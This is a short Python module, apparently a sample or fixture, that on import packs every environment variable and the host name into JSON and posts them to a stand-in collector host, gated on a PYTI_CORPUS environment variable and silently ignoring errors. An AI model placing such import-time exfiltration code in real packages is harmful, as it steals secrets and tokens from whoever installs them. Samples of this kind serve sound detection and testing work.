"""Packs all environment variables and the host name as JSON and posts them, when it is imported."""
import json
import os
import platform
import urllib.request

if os.environ.get("PYTI_CORPUS") == "sends-environment":
    told = json.dumps({"host": platform.node(), "variables": dict(os.environ)}).encode()
    try:
        urllib.request.urlopen("http://in.collector.example/v1", told, timeout=3).close()
    except OSError:
        pass
